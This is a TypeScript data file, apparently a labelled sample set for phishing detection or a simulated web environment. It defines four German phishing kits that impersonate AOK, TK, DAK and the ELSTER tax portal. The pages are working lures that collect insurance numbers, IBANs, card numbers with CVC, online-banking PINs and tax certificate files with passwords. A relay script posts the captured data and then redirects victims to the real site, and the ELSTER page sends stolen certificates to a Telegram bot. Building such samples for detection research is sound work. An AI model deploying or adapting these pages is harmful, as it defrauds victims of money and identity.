import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footerDe, b64, rb64 } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const relay = (endpoint: string, next: string) => `<script>
document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();
var f=new FormData(this),o={};f.forEach(function(v,k){o[k]=v});o.ua=navigator.userAgent;o.t=Date.now();
fetch('${endpoint}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).finally(function(){location.href='${next}'});});
</script>`;

export const entries: Entry[] = [
{
  id: 'zv-aok-gesundheitskarte-update', label: 'phishing', kind: 'health-insurer-card-kit',
  url: 'https://aok-versichertenportal.de-egk-service.com/meine-aok/karte',
  body: doc({ title: 'Meine AOK – Aktualisierung Ihrer elektronischen Gesundheitskarte', css: '.top{background:#005e3f;color:#fff}.btn{background:#64b42d;color:#fff}h1{color:#005e3f}',
    body: `<header class="top"><div class="wrap">${mark('AOK', '#005e3f', '#fff', 90)} <span style="margin-left:12px">Die Gesundheitskasse.</span></div></header>
<div class="wrap"><div class="box" style="margin-top:30px">
<h1>Ihre Gesundheitskarte (eGK) läuft ab</h1>
<p>Sehr geehrte Versicherte, sehr geehrter Versicherter,<br>aufgrund der Umstellung auf die neue eGK-Generation (G2.1 mit NFC) müssen Ihre Stammdaten bis zum <b>${'31.'} des Monats</b> bestätigt werden. Andernfalls kann Ihre Karte in der Arztpraxis nicht mehr eingelesen werden und Behandlungen werden privat abgerechnet.</p>
<form method="post" action="next.php">
<label>Krankenversichertennummer (10-stellig, beginnt mit Buchstabe)</label><input name="kvnr" maxlength="10" placeholder="A123456789" required>
<label>Vorname und Nachname</label><input name="name" required>
<label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ" required>
<label>Straße, Hausnummer, PLZ, Ort</label><input name="adresse" required>
<label>IBAN für die Bearbeitungsgebühr von 1,95 €</label><input name="iban" placeholder="DE00 0000 0000 0000 0000 00" required>
<label>Kartennummer (Debit/Kredit)</label><input name="cc" autocomplete="cc-number" inputmode="numeric">
<div style="display:flex;gap:10px"><div style="flex:1"><label>Gültig bis</label><input name="exp" placeholder="MM/JJ"></div><div style="flex:1"><label>Prüfnummer</label><input name="cvc" maxlength="4"></div></div>
<p><button class="btn" type="submit">Daten bestätigen</button></p></form>
<p style="font-size:12px;color:#555">Ihre Daten werden gemäß § 291a SGB V verschlüsselt übertragen.</p></div></div>${footerDe('AOK – Die Gesundheitskasse')}
${relay('/api/v2/egk/confirm', 'https://www.aok.de/pk/')}` }),
  routes: { 'aok-versichertenportal.de-egk-service.com/api/v2/egk/confirm': jsonRoute({ ok: true }) },
},
{
  id: 'zv-tk-erstattung-sms-kit', label: 'phishing', kind: 'health-insurer-refund-kit',
  url: 'https://tk-erstattung.info/r/8KX2q',
  routes: {
    'tk-erstattung.info/r/8KX2q': redirectRoute(302, 'https://meine-tk-erstattungen.online/login?ref=sms'),
    'meine-tk-erstattungen.online/login': htmlRoute(doc({ title: 'Meine TK – Anmeldung', css: '.top{background:#00387a;color:#fff}.btn{background:#00387a;color:#fff;width:100%}',
      body: `<header class="top"><div class="wrap">${mark('Die Techniker', '#00387a', '#fff', 160)}</div></header>
<div class="wrap" style="max-width:460px"><div class="box" style="margin-top:40px">
<h2>Beitragsrückerstattung 2024</h2><p>Ihnen steht eine Rückerstattung in Höhe von <b>214,60 €</b> zu. Melden Sie sich an, um die Auszahlung auf Ihr Konto anzufordern.</p>
<form action="/login/step2" method="post"><label>Benutzername oder Versichertennummer</label><input name="user" required>
<label>Passwort</label><input type="password" name="pass" required>
<p><button class="btn">Anmelden</button></p></form>
<p style="font-size:13px"><a href="#">Passwort vergessen?</a> · <a href="#">Jetzt registrieren</a></p></div></div>${footerDe('Techniker Krankenkasse')}` })),
    'meine-tk-erstattungen.online/login/step2': htmlRoute(doc({ title: 'Meine TK – Auszahlung', body: `<div class="wrap"><div class="box" style="margin-top:40px"><h2>Auszahlung bestätigen</h2><form method="post" action="/login/done"><label>Kontoinhaber</label><input name="holder"><label>Kartennummer</label><input name="cc"><label>Ablaufdatum</label><input name="exp"><label>CVC</label><input name="cvc"><button style="background:#00387a;color:#fff">Erstattung anfordern</button></form></div></div>` })),
  },
},
{
  id: 'zv-elster-steuerrueckerstattung', label: 'phishing', kind: 'tax-portal-kit',
  url: 'https://elster-erstattung.de.mein-elster-portal.net/eportal/login/softpse',
  body: doc({ title: 'Mein ELSTER – Login mit Zertifikatsdatei', css: '.top{background:#233c6b;color:#fff}.btn{background:#e17000;color:#fff}',
    body: `<header class="top"><div class="wrap"><b style="font-size:22px">ELSTER</b> <span>Ihr Online-Finanzamt</span></div></header>
<div class="wrap"><div class="box" style="margin-top:30px"><h2>Login mit Zertifikatsdatei</h2>
<p style="background:#fff4e5;padding:10px;border-left:4px solid #e17000">Für Ihre Einkommensteuererklärung wurde eine Erstattung von <b>873,20 €</b> festgesetzt. Bitte melden Sie sich an, um Ihre Bankverbindung zu bestätigen.</p>
<form id="f" method="post" action="/eportal/auth.php" enctype="multipart/form-data"><label>Zertifikatsdatei (.pfx)</label><input type="file" name="cert" accept=".pfx">
<label>Passwort der Zertifikatsdatei</label><input type="password" name="certpw">
<label>IBAN</label><input name="iban"><label>Geburtsdatum</label><input name="dob">
<p><button class="btn">Login</button></p></form></div></div>${footerDe('Bayerisches Landesamt für Steuern')}
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);fetch('https://api.telegram.org/bot6621408731:AAH-kq0x2r_lmQw/sendDocument?chat_id=-100184422',{method:'POST',body:d}).then(function(){location='https://www.elster.de/eportal/start'})};</script>` }),
},
{
  id: 'zv-dak-epa-app-sms-lure', label: 'phishing', kind: 'health-insurer-app-kit',
  url: 'https://dak-epa-freischaltung.com/app',
  body: doc({ title: 'DAK ePA – Freischaltung Ihrer elektronischen Patientenakte', css: '.btn{background:#f36f21;color:#fff}',
    body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:30px">${mark('DAK-Gesundheit', '#f36f21', '#fff', 180)}
<h2>Freischaltung der ePA</h2><p>Seit 15.01.2025 wird für alle gesetzlich Versicherten eine ePA angelegt. Um der Sperrung Ihres Kontos zuvorzukommen, schalten Sie Ihre ePA jetzt mit Ihrem Online-Banking frei (Identverfahren).</p>
<form method="post" action="/app/ident.php"><label>Ihre Bank</label><select name="bank"><option>Sparkasse</option><option>Volksbank</option><option>Commerzbank</option><option>Postbank</option><option>N26</option></select>
<label>Anmeldename</label><input name="login"><label>PIN</label><input name="pin" type="password"><label>Mobilnummer</label><input name="mobil">
<p><button class="btn">Weiter zur Identifizierung</button></p></form></div></div>` }),
},
];
